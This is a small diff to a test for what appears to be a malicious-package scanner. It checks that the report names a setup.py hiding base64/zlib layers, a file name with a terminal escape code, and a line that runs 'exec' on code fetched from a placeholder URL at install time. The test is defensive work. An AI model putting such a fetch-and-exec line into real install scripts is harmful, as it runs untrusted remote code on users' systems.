@@ -63,7 +63,7 @@ def test_text_shows_everything_that_a_person_needs() -> None:
         r"setup.py\x1b[2J  (line 3 of what its layers hide)",
         "3 │ exec(get('https://files.example.invalid/x').text)",
         "base64 → zlib",
-        "get  (line 2)\n            → exec  (line 3)",
+        "get  line 2\n            → exec  line 3",
         "runs when it is installed",
         "2 artifacts, 4.0 KiB: 1 malicious, 1 clean",
     ):
